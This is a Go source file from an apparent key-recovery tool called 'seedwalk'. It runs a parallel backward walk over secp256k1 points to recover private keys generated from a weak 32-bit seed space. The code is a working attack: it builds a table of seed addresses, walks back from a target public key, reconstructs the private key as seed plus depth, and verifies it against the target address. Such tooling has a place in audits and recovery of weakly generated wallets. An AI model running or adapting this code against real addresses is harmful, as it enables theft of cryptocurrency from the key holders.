// Package scanner orchestrates the backward walk: it partitions the search
// depth across independent lanes, runs them on a worker pool, and harvests
// the first verified seed match into a recovered private key.
package scanner

import (
	"context"
	"encoding/binary"
	"errors"
	"runtime"
	"sync"
	"sync/atomic"

	"github.com/decred/dcrd/dcrec/secp256k1/v4"
	"github.com/jedisct1/dlog"

	"seedwalk/pkg/backwalk"
)

// Config controls a scan.
type Config struct {
	// SeedLo, SeedHi bound the candidate seed scalar range [SeedLo, SeedHi).
	// The flawed scheme drew seeds from a 32-bit space; any sub-range works.
	SeedLo uint64
	SeedHi uint64

	// MaxSteps is the deepest backward depth to walk from the target.
	MaxSteps uint64

	// Span is the number of backward steps each lane covers (0 = auto).
	Span uint64

	// Workers controls parallelization (0 = auto-detect).
	Workers int
}

// Result describes a recovered key.
type Result struct {
	PrivateKey [32]byte         // seed + depth mod n
	Seed       uint64           // matched seed scalar
	Depth      uint64           // backward depth of the match
	Address    backwalk.Address // matched seed address
	Verified   bool             // private key re-derives the target address
}

// Scan walks backward from target, checking every visited point's address
// against the candidate seed table. It returns the first verified match,
// or (nil, nil) when the configured depth is exhausted without one.
func Scan(ctx context.Context, target *backwalk.Point, cfg Config) (*Result, error) {
	if cfg.MaxSteps == 0 {
		return nil, errors.New("scanner: MaxSteps must be positive")
	}
	table, err := BuildSeedTable(cfg.SeedLo, cfg.SeedHi)
	if err != nil {
		return nil, err
	}
	targetAddr := backwalk.NewAddressHasher().Derive(target)

	workers := cfg.Workers
	if workers <= 0 {
		workers = runtime.NumCPU()
	}
	span := cfg.Span
	if span == 0 {
		span = cfg.MaxSteps / uint64(workers*4)
		if span == 0 {
			span = 1
		}
	}
	numLanes := (cfg.MaxSteps + span - 1) / span

	dlog.Noticef("scanning %d backward steps across %d lanes of %d on %d workers (%d candidate seeds)",
		cfg.MaxSteps, numLanes, span, workers, table.Len())

	ctx, cancel := context.WithCancel(ctx)
	defer cancel()

	work := make(chan uint64, workers)
	go func() {
		defer close(work)
		for lane := uint64(0); lane < numLanes; lane++ {
			select {
			case <-ctx.Done():
				return
			case work <- lane:
			}
		}
	}()

	resultChan := make(chan *Result, 1)
	testedSteps := int64(0)

	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for lane := range work {
				res := walkLane(ctx, target, table, targetAddr, lane*span, span, &testedSteps)
				if res != nil {
					select {
					case resultChan <- res:
					default:
					}
					cancel()
					return
				}
			}
		}()
	}

	done := make(chan struct{})
	go func() {
		wg.Wait()
		close(done)
	}()

	select {
	case result := <-resultChan:
		dlog.Noticef("match at depth %d after %d tested steps", result.Depth, atomic.LoadInt64(&testedSteps))
		return result, nil
	case <-done:
		// A winning worker cancels the context before the pool drains, so a
		// result may still be pending even though every worker has exited.
		select {
		case result := <-resultChan:
			return result, nil
		default:
		}
		// Workers only cancel after posting a result, so a still-canceled
		// context with no result means the caller gave up.
		if ctx.Err() != nil {
			return nil, ctx.Err()
		}
		dlog.Noticef("depth exhausted, no match in %d tested steps", atomic.LoadInt64(&testedSteps))
		return nil, nil
	}
}

// walkLane seeds one lane at target - startDepth*G and walks it span steps
// backward. It returns a verified Result on a seed-table hit, or nil.
func walkLane(ctx context.Context, target *backwalk.Point, table *SeedTable, targetAddr backwalk.Address, startDepth, span uint64, testedSteps *int64) *Result {
	start := target
	if startDepth > 0 {
		start = offsetBackward(target, startDepth)
	}
	lane, err := backwalk.SeedLane(start)
	if err != nil {
		dlog.Warnf("lane at depth %d: %v", startDepth, err)
		return nil
	}
	if res := matchAt(table, lane.Digest(), startDepth, targetAddr); res != nil {
		return res
	}

	for j := uint64(1); j <= span; j++ {
		if j%1024 == 0 {
			select {
			case <-ctx.Done():
				return nil
			default:
			}
		}
		if err := lane.Step(1); err != nil {
			var degenerate *backwalk.DegenerateStepError
			if errors.As(err, &degenerate) {
				// The lane stepped onto G; its digest still covers that
				// final point before the lane retires.
				if res := matchAt(table, lane.Digest(), startDepth+j, targetAddr); res != nil {
					return res
				}
			}
			dlog.Warnf("lane at depth %d stopped after %d steps: %v", startDepth, j, err)
			return nil
		}
		if n := atomic.AddInt64(testedSteps, 1); n%1000000 == 0 {
			dlog.Infof("tested %d backward steps", n)
		}
		if res := matchAt(table, lane.Digest(), startDepth+j, targetAddr); res != nil {
			return res
		}
	}
	return nil
}

// matchAt checks one visited address against the seed table and returns a
// verified Result, or nil. Unverified table hits (a 20-byte digest collision
// rather than a real seed) are logged and skipped so the walk continues.
func matchAt(table *SeedTable, addr backwalk.Address, depth uint64, targetAddr backwalk.Address) *Result {
	seed, ok := table.Lookup(addr)
	if !ok {
		return nil
	}
	if res := buildResult(seed, depth, addr, targetAddr); res.Verified {
		return res
	}
	return nil
}

// buildResult reconstructs the private key seed + depth mod n and verifies
// it by re-deriving the target address from scratch.
func buildResult(seed, depth uint64, addr, targetAddr backwalk.Address) *Result {
	k := scalarFromUint64(seed)
	k.Add(scalarFromUint64(depth))

	result := &Result{
		Seed:    seed,
		Depth:   depth,
		Address: addr,
	}
	k.PutBytes(&result.PrivateKey)

	var j secp256k1.JacobianPoint
	secp256k1.ScalarBaseMultNonConst(k, &j)
	j.ToAffine()
	j.X.Normalize()
	j.Y.Normalize()
	derived := backwalk.NewAddressHasher().Derive(backwalk.NewPoint(&j.X, &j.Y))
	result.Verified = derived == targetAddr
	if !result.Verified {
		dlog.Warnf("seed %d at depth %d matched the table but key %x fails verification",
			seed, depth, result.PrivateKey)
	}
	return result
}

// offsetBackward computes target - depth*G with the curve library's ladder;
// it is only used to seed lanes, never on the per-step path.
func offsetBackward(target *backwalk.Point, depth uint64) *backwalk.Point {
	d := scalarFromUint64(depth)
	d.Negate()

	var off, tj, sum secp256k1.JacobianPoint
	secp256k1.ScalarBaseMultNonConst(d, &off)
	tj.X.Set(&target.X)
	tj.Y.Set(&target.Y)
	tj.Z.SetInt(1)
	secp256k1.AddNonConst(&tj, &off, &sum)
	sum.ToAffine()
	sum.X.Normalize()
	sum.Y.Normalize()
	return backwalk.NewPoint(&sum.X, &sum.Y)
}

func scalarFromUint64(v uint64) *secp256k1.ModNScalar {
	var b [8]byte
	binary.BigEndian.PutUint64(b[:], v)
	var s secp256k1.ModNScalar
	s.SetByteSlice(b[:])
	return &s
}
